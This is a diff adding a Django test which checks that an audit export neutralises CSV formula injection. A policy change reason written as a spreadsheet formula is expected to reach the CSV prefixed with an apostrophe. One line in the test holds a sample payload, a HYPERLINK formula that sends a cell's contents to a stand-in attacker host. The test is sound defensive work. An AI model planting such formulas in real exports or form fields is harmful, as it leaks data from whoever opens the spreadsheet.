@@ -12,6 +12,7 @@ from django.utils import timezone
 
 from approvals.services.decisions import proposal_approve
 from executors.runner import proposal_execute
+from policies.models import Policy
 from tests.conftest import reallocation
 from tests.factories import evaluated
 
@@ -182,3 +183,21 @@ def test_the_export_page_names_every_kind_of_record_it_holds(login):
         assert kind in holds
     models = {json.loads(line)["model"] for line in exported(auditor, "jsonl").splitlines()}
     assert "notifications.notification" in models and "notifications.route" in models
+
+
+def test_a_reason_typed_as_a_formula_reaches_the_csv_as_text(login):
+    """A policy changed with the reason ``=HYPERLINK(…)``: a spreadsheet opening the CSV
+    would run it; the cell starts with an apostrophe, which a spreadsheet shows as text. The
+    JSON Lines export keeps the reason as typed."""
+    policy = Policy.objects.get(action_type="budget_reallocation", is_draft=False)
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    policy._change_reason = typed
+    policy.save()
+    auditor = login("auditor")
+
+    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))
+    lines = [json.loads(line) for line in exported(auditor, "jsonl").splitlines()]
+
+    [row] = [r for r in rows if r["model"] == "policies.policy" and "HYPERLINK" in r["reason"]]
+    assert row["reason"] == "'" + typed
+    assert [line["reason"] for line in lines if "HYPERLINK" in (line["reason"] or "")] == [typed]
